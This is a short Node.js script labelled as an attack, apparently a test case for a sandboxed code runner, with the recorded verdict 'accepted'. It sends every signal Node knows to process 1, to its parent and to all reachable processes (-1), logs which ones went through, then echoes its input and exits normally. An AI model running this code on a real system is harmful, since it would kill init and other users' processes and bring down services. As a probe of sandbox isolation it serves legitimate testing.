// Attack: signals to the first process, the parent and all others, by every name Node knows.
// Verdict: accepted
const { constants } = require('os');
const reached = [];
for (const target of [1, process.ppid, -1])
    for (const name of Object.keys(constants.signals))
        try {
            process.kill(target, name);
            if (target === -1) reached.push(name);
        } catch {}
console.log(reached.length ? reached.join() : 'unharmed', require('fs').readFileSync(0, 'utf8').trim());
process.exit(0);
